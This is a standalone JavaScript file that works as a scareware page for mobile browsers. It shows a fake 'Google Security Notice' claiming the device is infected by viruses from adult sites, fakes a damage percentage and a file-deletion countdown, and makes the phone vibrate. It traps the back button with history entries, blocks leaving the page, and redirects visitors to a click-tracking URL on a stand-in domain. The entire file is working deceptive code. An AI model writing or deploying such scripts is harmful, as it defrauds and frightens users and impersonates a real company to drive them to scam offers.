(() => {
  const q = new URLSearchParams(location.search);
  const model = q.get("model") || (/\(([^)]+)\)/.exec(navigator.userAgent) || [])[1] || "Android";
  const out = `https://trk.clean-boost.example/click?sub=${q.get("cid") || ""}`;
  const pct = () => (27 + Math.random() * 40).toFixed(1);

  const warn = () => {
    navigator.vibrate && navigator.vibrate([300, 100, 300, 100, 900]);
    alert(`WARNING! Your ${model} is infected with (4) viruses!\n\nYour battery and SIM card will be damaged. Follow the steps to repair it now.`);
  };

  const trap = () => {
    for (let i = 0; i < 25; i++) history.pushState({}, document.title, "#" + i);
    window.onpopstate = () => {
      warn();
      location.href = out + "&b=1";
    };
  };

  document.addEventListener("DOMContentLoaded", () => {
    trap();
    warn();
    document.body.innerHTML = `<h2>Google Security Notice</h2><p>We have detected that your <b>${model}</b> is <b>${pct()}%</b> DAMAGED because of four harmful viruses from recent adult sites.</p><p>Deleting all files in <span id="s"></span></p><a id="go" class="btn">REMOVE VIRUS NOW</a>`;
    let s = 120;
    setInterval(() => {
      document.getElementById("s").textContent = Math.floor(s / 60) + " minutes and " + (s % 60) + " seconds";
      if (s-- <= 0) location.replace(out + "&t=1");
      if (s % 30 === 0) navigator.vibrate && navigator.vibrate(500);
    }, 1000);
    document.getElementById("go").onclick = () => (location.href = out);
  });
  window.addEventListener("beforeunload", (e) => ((e.returnValue = "Leaving will not remove the virus"), e.returnValue));
})();
